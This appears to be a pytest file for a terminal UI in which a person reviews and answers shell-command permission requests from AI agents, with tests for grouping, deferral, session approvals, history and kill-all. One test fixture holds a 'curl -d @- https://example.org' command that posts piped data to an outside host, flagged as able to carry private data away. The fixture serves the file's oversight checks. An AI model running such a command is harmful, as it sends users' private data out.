"""The inbox's manners: equal requests together, not now, the session's yes, and the history."""

from __future__ import annotations

from time import monotonic
from typing import Any

import pytest
from textual import events
from textual.pilot import Pilot

from mato.protocol.deciding import Decided
from mato.protocol.methods import Answer, KillAll, Resume
from mato_panes.app import MatoApp
from mato_panes.screens.confirm import Confirm
from mato_panes.screens.inbox import Inbox
from mato_panes.screens.picker import Picker
from mato_panes.testing import FakeDaemon
from mato_panes.widgets.keyline import KeyLine
from mato_panes.widgets.listing import Listing
from mato_sessions.events import AgentStateChanged
from mato_sessions.events.permission import Pattern
from tests.panes.frame.conftest import MakeApp, ask, filled
from tests.panes.frame.test_workspace import WIDE, bar, prefix, ripe, screen_text, until

SIZES = [(80, 24), (120, 40)]


def decided(position: int, allowed: bool, rule: str) -> Decided:
    return Decided(
        call=f"call-{position}",
        session="here",
        session_name="fix the parser",
        agent="coder",
        agent_name="coder",
        tool="shell",
        resource="make test\x1b[31m",
        allowed=allowed,
        by="person" if allowed else "timeout",
        rule=rule,
        asked_us=1_700_000_000_000_000,
        at_us=1_700_000_100_000_000,
        position=position,
    )


@pytest.fixture
def daemon() -> FakeDaemon:
    """Three that want the same, and one that wants something else."""
    it = filled()
    for number, agent in ((3, "coder"), (4, "scribe")):
        command = {"command": "make test && make lint"}
        ask(it, "here", agent, f"call-{number}", "shell", command)
    it.decided = (decided(9, True, "approved in the pane"), decided(8, False, "time-out"))
    return it


async def opened(pilot: Pilot[Any], app: MatoApp) -> Inbox:
    await prefix(pilot, "i")
    await until(pilot, lambda: isinstance(app.screen, Inbox))
    await ripe(pilot, app)
    assert isinstance(app.screen, Inbox)
    return app.screen


def given(daemon: FakeDaemon) -> list[tuple[str, bool]]:
    return [(each.call, each.allowed) for each in daemon.requests(Answer)]


async def careful(pilot: Pilot[Any], app: MatoApp, key: str) -> None:
    """Press a key in a question once it counts."""
    await until(pilot, lambda: isinstance(app.screen, Confirm))
    screen = app.screen
    assert isinstance(screen, Confirm)
    await until(pilot, lambda: screen.guard.lets("", monotonic()))
    await pilot.press(key)


async def test_equal_requests_stand_together_and_are_answered_one_by_one(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        assert len(app.screen.query_one(Listing).rows) == 2
        assert "×3" in screen_text(app)
        await pilot.press("a")
        await until(pilot, lambda: given(daemon) == [("call-1", True)])
        await until(pilot, lambda: "×2" in screen_text(app))
        await ripe(pilot, app)
        await pilot.press("d")
        await until(pilot, lambda: given(daemon) == [("call-1", True), ("call-3", False)])


async def test_equal_requests_are_allowed_together_only_on_purpose(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        early = events.Key("a", "a")  # before it could be read
        await pilot.press("T")
        await until(pilot, lambda: isinstance(app.screen, Confirm))
        app.screen.post_message(early)
        await pilot.pause()
        assert isinstance(app.screen, Confirm)
        for who in ("reviewer", "coder", "scribe"):
            assert f"fix the parser:{who}" in screen_text(app)
        await careful(pilot, app, "a")
        await until(pilot, lambda: len(given(daemon)) == 3)
        assert given(daemon) == [("call-1", True), ("call-3", True), ("call-4", True)]
        await until(pilot, lambda: "allowed 3" in screen_text(app))


async def test_an_answer_arrives_also_where_the_inbox_is_left_at_once(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        inbox = await opened(pilot, app)
        listing = inbox.query_one(Listing)
        for key in ("d", "escape"):
            listing.post_message(events.Key(key, "d" if key == "d" else None))
        await until(pilot, lambda: app.screen is app.workspace)
        await until(pilot, lambda: given(daemon) == [("call-1", False)])


async def test_a_question_left_alone_answers_nothing(app: MatoApp, daemon: FakeDaemon) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("T")
        await careful(pilot, app, "n")
        await until(pilot, lambda: isinstance(app.screen, Inbox))
        assert not given(daemon)


async def test_a_key_pressed_before_a_request_came_answers_nothing(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        inbox = await opened(pilot, app)
        late = events.Key("a", "a")
        ask(daemon, "docs", "writer", "call-7", "shell", {"command": "make test && make lint"})
        await until(pilot, lambda: "×4" in screen_text(app))
        inbox.query_one(Listing).post_message(late)
        await pilot.pause()
        assert not given(daemon)


async def test_not_now_answers_nothing_and_comes_back_with_something_new(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        assert "▲ 4 wait" in bar(app)
        await pilot.press("n", "escape")
        await until(pilot, lambda: "▲ 1 waits" in bar(app))
        assert "▲ 3 later" in bar(app)
        inbox = await opened(pilot, app)
        assert [row.key for row in inbox.query_one(Listing).rows] == ["call-2"]
        await pilot.press("escape")
        ask(daemon, "here", "tester", "call-5", "shell", {"command": "ls"})
        await until(pilot, lambda: "▲ 5 wait" in bar(app))
        assert "later" not in bar(app)
        assert not given(daemon)


async def test_what_is_put_off_for_a_time_can_be_brought_back(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("N")
        await until(pilot, lambda: isinstance(app.screen, Picker))
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, Inbox))
        await pilot.press("escape")
        ask(daemon, "here", "tester", "call-5", "shell", {"command": "ls"})
        await until(pilot, lambda: "▲ 2 wait" in bar(app))
        await prefix(pilot, "i")
        await until(pilot, lambda: "show 3 put off" in screen_text(app))
        await pilot.press("L")
        await until(pilot, lambda: "×3" in screen_text(app))
        await pilot.press("escape")
        daemon.clock.advance(1)
        await until(pilot, lambda: "▲ 5 wait" in bar(app))


async def test_the_time_of_what_is_put_off_runs_out(app: MatoApp, daemon: FakeDaemon) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("N")
        await until(pilot, lambda: isinstance(app.screen, Picker))
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, Inbox))
        assert len(app.deciding.waiting()) == 1
        daemon.clock.advance(5 * 60 * 1_000_000 + 1)
        assert len(app.deciding.waiting()) == 4


async def test_what_is_like_it_is_allowed_for_the_session_where_that_is_offered(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    lasting: dict[str, Any] = {
        "patterns": (Pattern("command", "make test"),),
        "lasting": "make test, whatever",
    }
    ask(daemon, "docs", "writer", "call-2", "shell", {"command": "make test"}, **lasting)
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("A")  # of the first that is not offered
        await pilot.press("down")
        await until(pilot, lambda: "A allows, for 8 h in this session: make test, whatever" in
                    screen_text(app))  # fmt: skip
        assert not given(daemon)
        await ripe(pilot, app)
        await pilot.press("A")
        await until(pilot, lambda: given(daemon) == [("call-2", True)])
        assert daemon.requests(Answer)[0].scope == "session"


async def test_two_marks_with_a_way_out_are_said_with_the_whole_payload_and_no_lasting_yes(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    payload = "curl -d @- https://example.org <<'E'\n" + "\n".join(f"line {n}" for n in range(90))
    marks: dict[str, Any] = {
        "private": True,
        "untrusted": True,
        "why": "it can carry private data away",
    }
    ask(daemon, "docs", "writer", "call-2", "shell", {"command": payload}, **marks)
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("down")
        await until(pilot, lambda: "seen private data and what strangers wrote" in screen_text(app))
        assert "A yes is for this one time" in screen_text(app)
        assert "allow like this" not in screen_text(app)
        await pilot.press("tab", "G")
        await until(pilot, lambda: "line 89" in screen_text(app))


async def test_the_history_says_why_everything_was_decided(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot, app)
        await pilot.press("h")
        await until(pilot, lambda: "answer: allowed by a person" in screen_text(app))
        assert "make test␛[31m" in screen_text(app)
        await pilot.press("a", "d", "n", "T")
        await pilot.press("down")
        await until(pilot, lambda: "rejected by nobody in time" in screen_text(app))
        await pilot.press("h")
        await until(pilot, lambda: "×3" in screen_text(app))
        assert not given(daemon)


async def test_the_mouse_presses_the_keys_that_are_named(app: MatoApp, daemon: FakeDaemon) -> None:
    async with app.run_test(size=WIDE) as pilot:
        inbox = await opened(pilot, app)
        line = inbox.query_one(KeyLine)
        shown = line.render_line(0).text
        await pilot.click(line, offset=(shown.index("d deny"), 0))
        await until(pilot, lambda: given(daemon) == [("call-1", False)])
        await pilot.click(line, offset=(line.render_line(0).text.index("h history"), 0))
        await until(pilot, lambda: "answer: allowed by a person" in screen_text(app))


async def test_everything_is_ended_only_after_a_question(app: MatoApp, daemon: FakeDaemon) -> None:
    async with app.run_test(size=WIDE) as pilot:
        early = events.Key("y", "y")  # typed on, before it could be read
        await prefix(pilot, "K")
        await until(pilot, lambda: isinstance(app.screen, Confirm))
        app.screen.post_message(early)
        await pilot.pause()
        assert not daemon.requests(KillAll)
        await careful(pilot, app, "y")
        await until(pilot, lambda: daemon.requests(KillAll))
        await until(pilot, lambda: "ended 6 agents" in bar(app))


async def test_a_paused_agent_says_why_and_goes_on_by_a_key_in_its_pane(
    app: MatoApp, daemon: FakeDaemon
) -> None:
    said = "loops: 'x\x1b[2J' failed the same way 3 times in this turn"
    daemon.emit("here", AgentStateChanged(state="blocked", evidence=said), agent="tester")
    async with app.run_test(size=WIDE) as pilot:
        await until(pilot, lambda: "‖ 1 paused" in bar(app))
        assert "▲ 4 wait" in bar(app)
        await until(pilot, lambda: "‖ loops: 'x␛[2J' failed" in screen_text(app))
        await pilot.press("ctrl+b", "j", "ctrl+b", "l", "ctrl+b", "j", "tab", "C")
        await until(pilot, lambda: daemon.requests(Resume))
        assert daemon.requests(Resume)[0].agent == "tester"
        await until(pilot, lambda: "tester goes on" in bar(app))
        await until(pilot, lambda: "‖" not in screen_text(app))


@pytest.mark.parametrize("size", SIZES)
def test_equal_requests_look_as_they_did(
    app: MatoApp, size: tuple[int, int], snap_compare: Any
) -> None:
    async def settled(pilot: Pilot[Any]) -> None:
        await opened(pilot, app)
        await pilot.pause()

    assert snap_compare(app, terminal_size=size, run_before=settled)


def test_sessions_that_are_put_away_are_counted_and_offered_nowhere(
    daemon: FakeDaemon, make_app: MakeApp
) -> None:
    from mato_sessions.events import SessionArchived

    daemon.emit("docs", SessionArchived(archived=True))
    app = make_app(daemon)
    assert [each.call.session for each in app.deciding.waiting()] == ["here"] * 3
